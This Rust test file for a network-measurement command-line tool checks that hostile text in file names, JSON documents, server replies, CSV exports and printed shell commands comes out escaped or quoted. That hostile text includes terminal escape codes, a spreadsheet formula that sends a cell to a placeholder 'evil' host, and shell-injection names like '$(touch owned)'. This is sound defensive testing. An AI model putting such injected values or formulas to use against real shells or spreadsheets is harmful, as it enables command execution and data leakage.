//! Text from elsewhere (names, files, peers, documents) that a terminal, a spreadsheet or a shell would interpret.

use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::OsStrExt as _;
use std::path::Path;
use std::process::Command;

use landspeed_flow::control::message::{Accepted, ToClient};
use landspeed_flow::control::preface::Token;
use landspeed_model::{ErrorEntry, HostSnapshot};
use landspeed_testkit::process::run_concurrently;
use serde_json::Value;

use crate::hostile::common::{Ended, Process, TIMEOUT_S, landspeed, scratch};
use crate::hostile::raw;

/// Text with a colour, a bell, DEL, a C1 sequence, a carriage return and a right-to-left override.
const HOSTILE: &str = "x\u{1b}[31m\u{7}\u{7f}\u{9b}32m\u{85}\r\u{202e}\u{2066}y";

/// Runs the program in a directory, with an archive there.
fn run_in(directory: &Path, arguments: &[OsString]) -> Ended {
    let mut command = landspeed();
    command.args(arguments).current_dir(directory).env("LANDSPEED_ARCHIVE", directory.join("archive"));
    Process::start(command).end(TIMEOUT_S)
}

fn words(line: &str) -> Vec<OsString> {
    line.split(' ').map(|word| if word == "@" { HOSTILE.into() } else { word.replace('@', HOSTILE).into() }).collect()
}

/// Asserts that nothing a terminal interprets was printed.
fn assert_printable(what: &str, ended: &Ended) {
    for (stream, text) in [("standard output", &ended.stdout), ("standard error", &ended.stderr)] {
        let plain = text.replace("\r\n", "\n");
        let found = plain.chars().find(|c| {
            (c.is_control() && !matches!(c, '\n' | '\t'))
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        });
        assert!(found.is_none(), "{what:?}: {found:?} on {stream}: {plain:?}");
    }
    assert!(ended.code <= 2, "{what:?}: {ended:?}");
}

/// Command lines with a hostile word, name or file (`@`). The file exists with hostile content, `@none` does not.
const LINES: &[&str] = &[
    "@",
    "run @",
    "run 127.0.0.1:9 --key-file @",
    "run 127.0.0.1:9 --congestion @",
    "run 127.0.0.1:9 --rate @",
    "run 127.0.0.1:9 --json @/x",
    "serve --config @",
    "serve --config @none",
    "serve --listen @",
    "serve --key-file @",
    "iperf3 -c @",
    "iperf3 -c 127.0.0.1 -p 9 --logfile @/x",
    "iperf3 -s --authorized-users-path @ --rsa-private-key-path @",
    "demo --out @/x/y --quiet",
    "check --host @",
    "check --explain @",
    "explain @",
    "check --only @",
    "check --iface @",
    "calc --rate @",
    "lab run @",
    "lab run @none",
    "lab new @new",
    "lab gallery @",
    "lab kernel remove @",
    "emulate @ -- true",
    "emulate @none -- true",
    "tune plan --findings @",
    "tune plan --findings @none",
    "tune plan --set @=1",
    "tune plan --set net.ipv4.tcp_rmem=@",
    "tune status --state @none",
    "tuneup @",
    "sweep @",
    "sweep @none",
    "sweep --new @new2",
    "compare @ @",
    "compare @=@ b=@none",
    "compare archive:@ archive:host=@",
    "archive import @",
    "archive import @none",
    "archive show @",
    "archive find --tag @",
    "archive find --where @",
    "tap -i @",
    "tap -w @/x",
    "watch --for 0s --host @",
    "watch --for 1s --json @/x",
    "report @ -o x.html",
    "report @none -o x.html",
    "report @ --csv -",
    "trace @",
    "trace @none",
    "trace @ @",
    "schema @",
    "completions @",
    "man @/x/y",
];

/// Contents of the file: no format knows it, or each reads some of it.
fn contents() -> Vec<String> {
    vec![
        format!("{HOSTILE} = {HOSTILE}\n"),
        format!("[{HOSTILE}]\nlisten = [\"{HOSTILE}\"]\n"),
        format!("max_tests = 1\n\"{}\" = 2\n", r"a\u001b[31m\u009b"),
        format!("{{ \"schema\": {}, \"title\": 1 }}", Value::from(HOSTILE)),
        format!("{{ \"schema\": \"landspeed.run/1\", {}: 1 }}", Value::from(HOSTILE)),
        format!("{{ \"error\": {}, \"start\": {{}}, \"end\": {{}} }}", Value::from(HOSTILE)),
    ]
}

#[test]
fn hostile_names_and_files_are_printed_escaped() {
    run_concurrently(contents().into_iter().enumerate(), |(number, content)| {
        let directory = scratch();
        std::fs::write(directory.path().join(HOSTILE), content).expect("written");
        // Names alone are the same with each content.
        for line in LINES.iter().filter(|line| number == 0 || (line.contains('@') && !line.contains("@none"))) {
            assert_printable(line, &run_in(directory.path(), &words(line)));
        }
    });
}

#[test]
fn names_that_are_not_utf8_are_no_panic() {
    let directory = scratch();
    let name = OsStr::from_bytes(b"x\xff\x9b31m");
    std::fs::write(directory.path().join(name), "nonsense").expect("written");
    for line in [
        "report ? -o x.html",
        "trace ?",
        "compare ? ?",
        "archive import ?",
        "lab run ?",
        "sweep ?",
        "serve --config ?",
    ] {
        let words: Vec<OsString> =
            line.split(' ').map(|word| if word == "?" { name.to_owned() } else { word.into() }).collect();
        let ended = run_in(directory.path(), &words);
        assert_printable(line, &ended);
        assert!(!ended.stderr.contains("panicked"), "{line}: {ended:?}");
    }
}

/// Appends hostile text to the strings of a document, except to words that a reader requires.
fn poison(value: &mut Value) {
    const PHASES: &[&str] = &["startup", "omitted", "steady", "drain"];
    const NAMES: &str = "hostname name title target message advice summary next_step kernel_release release process command \
                         reason why ended_because model driver interface filter note text description change version file \
                         unit label";
    match value {
        Value::Array(items) => items.iter_mut().for_each(poison),
        Value::Object(fields) => {
            for (key, field) in fields {
                match field {
                    Value::String(text)
                        if NAMES.split(' ').any(|name| name == key) && !PHASES.contains(&text.as_str()) =>
                    {
                        text.push_str(HOSTILE);
                    }
                    other => poison(other),
                }
            }
        }
        _ => {}
    }
}

fn fixture(name: &str) -> Value {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/documents").join(name);
    serde_json::from_slice(&std::fs::read(path).expect("a fixture")).expect("JSON")
}

#[test]
fn hostile_documents_are_printed_escaped() {
    let names = ["udp", "rr", "sweep", "tap", "tuneup", "tuneup-map", "watch", "demo"];
    run_concurrently(names, |kind| {
        let mut document = fixture(&format!("{kind}.json"));
        poison(&mut document);
        let directory = scratch();
        let path = directory.path().join("document.json");
        std::fs::write(&path, document.to_string()).expect("written");
        let print = |line: &str| {
            let ended = run_in(directory.path(), &words(line));
            assert_printable(&format!("{kind}: {line}"), &ended);
            ended
        };
        let imported = print("archive import document.json --ids --tag t");
        assert_eq!(imported.code, 0, "{kind}: {imported:?}");
        for line in [
            "archive list",
            "archive find",
            "archive trend",
            "archive export --format csv",
            "archive export --format openmetrics",
            "archive verify",
            "report document.json -o page.html",
            "report document.json --csv -",
            "report document.json --markdown -",
            "report document.json --json -",
            "compare document.json document.json",
            "compare document.json document.json --json -",
        ] {
            print(line);
        }
        let id = imported.stdout.trim();
        print(&format!("archive show {id}"));
        print(&format!("archive show {id} -v"));
    });
}

#[test]
fn hostile_servers_are_printed_escaped() {
    let entry = ErrorEntry { code: HOSTILE.into(), message: HOSTILE.into(), advice: Some(HOSTILE.into()) };
    let accepted = |parameters| Accepted {
        id: HOSTILE.into(),
        token: Token([7; 32]).to_hex(),
        version: HOSTILE.into(),
        parameters,
        notes: vec![HOSTILE.into()],
        host: HostSnapshot { hostname: HOSTILE.into(), kernel_release: HOSTILE.into(), ..HostSnapshot::default() },
    };
    for refuses in [true, false] {
        for options in [&["-t", "1"][..], &["-t", "1", "--json", "-"], &["-t", "1", "--jsonl", "-"]] {
            let (listener, addr) = raw::listener();
            let mut command = landspeed();
            command.args(["run", &addr.to_string()]).args(options);
            let client = Process::start(command);
            let (mut tx, rx, asked) = raw::accept_client(&listener, None);
            let answer = if refuses {
                ToClient::Refused(entry.clone())
            } else {
                ToClient::Accepted(Box::new(accepted(asked)))
            };
            tx.queue(&answer).unwrap();
            drop((tx, rx));
            assert_printable(&format!("{options:?}"), &client.end(TIMEOUT_S));
        }
    }
}

#[test]
fn csv_has_no_formulas_of_a_server() {
    let formula = "=HYPERLINK(\"http://evil/\"&A1)";
    let directory = scratch();
    let mut document = fixture("udp.json");
    document["hosts"]["server"]["hostname"] = formula.into();
    document["effective"]["title"] = "@SUM(1+1)".into();
    std::fs::write(directory.path().join("document.json"), document.to_string()).expect("written");
    assert_eq!(run_in(directory.path(), &words("archive import document.json")).code, 0);
    let table = run_in(directory.path(), &words("archive export --format csv")).stdout;
    assert!(table.contains("\"'=HYPERLINK(\"\"http://evil/\"\"&A1)\""), "{table}");
    assert!(!table.contains("\"=HYPERLINK") && !table.contains(",=HYPERLINK") && !table.contains(",@SUM"), "{table}");
}

/// Returns the words that a shell gives to `program` in a printed command.
fn pasted(directory: &Path, program: &str, command: &str) -> Vec<String> {
    let script = format!("{program}() {{ printf '%s\\0' \"$@\"; }}; {command}");
    let output = Command::new("sh").args(["-c", &script]).current_dir(directory).output().expect("a shell");
    assert!(output.status.success(), "{command}: {output:?}");
    let text = String::from_utf8(output.stdout).expect("text");
    text.split_terminator('\0').map(str::to_owned).collect()
}

/// Names that a shell or a program would interpret.
const SHELL_NAMES: &[&str] = &[
    "a b",
    "it's",
    "\"q\"",
    "$(touch owned)",
    "`touch owned`",
    "new\nline",
    "-rf",
    "~",
    "a;touch owned",
    "e\u{1b}[31m\u{9b}",
];

#[test]
fn printed_commands_can_be_pasted() {
    run_concurrently(SHELL_NAMES, |name| {
        let directory = scratch();
        let directory = directory.path();
        let expected = if name.starts_with('-') { format!("./{name}") } else { (*name).to_owned() };
        let run = |arguments: &[&str]| run_in(directory, &arguments.iter().map(OsString::from).collect::<Vec<_>>());
        let after = |text: &str, mark: &str| {
            let at = text.find(mark).unwrap_or_else(|| panic!("no {mark:?} in {text:?}"));
            text[at + mark.len()..].trim_end_matches('\n').to_owned()
        };

        let ended = run(&["sweep", &format!("--new={name}")]);
        let command = after(&ended.stdout, "Run it: ");
        assert_eq!(pasted(directory, "landspeed", &command), ["sweep", &expected], "{command}");

        let other = format!("{name}2");
        let ended = run(&["lab", "new", "--", &other]);
        let command = after(&ended.stderr, "run it: ");
        assert_eq!(pasted(directory, "landspeed", &command), ["lab", "run", &format!("{expected}2")], "{command}");

        let key = format!("{name}3");
        std::fs::write(directory.join(&key), "07".repeat(32)).expect("written");
        let ended = run(&["run", "127.0.0.1:9", &format!("--key-file={key}")]);
        let command = after(&ended.stderr, "Run ");
        let command = command.split(", or pass --insecure").next().expect("a command");
        let words = pasted(directory, "chmod", command);
        assert_eq!(words, ["600", &format!("{expected}3")], "{command}");

        assert!(!directory.join("owned").exists(), "{name:?}");
    });
}

#[test]
fn hostile_values_of_a_tuneup_are_quoted() {
    let directory = scratch();
    let value = "a b'; touch owned; '$(touch owned)`touch owned`";
    let mut document = fixture("tuneup.json");
    document["final"]["plan"]["client"] =
        serde_json::json!([{ "target": { "kind": "sysctl", "name": "net.ipv4.tcp_rmem" }, "desired": value }]);
    std::fs::write(directory.path().join("document.json"), document.to_string()).expect("written");
    let id = run_in(directory.path(), &words("archive import document.json --ids")).stdout;
    let shown = run_in(directory.path(), &words(&format!("archive show {}", id.trim()))).stdout;
    let at = shown.find("landspeed tune plan").unwrap_or_else(|| panic!("no command: {shown}"));
    let command = shown[at..].lines().next().expect("a line");
    let expected = ["tune", "plan", "--set", &format!("net.ipv4.tcp_rmem={value}")];
    assert_eq!(pasted(directory.path(), "landspeed", command), expected, "{command}");
    assert!(!directory.path().join("owned").exists());
}
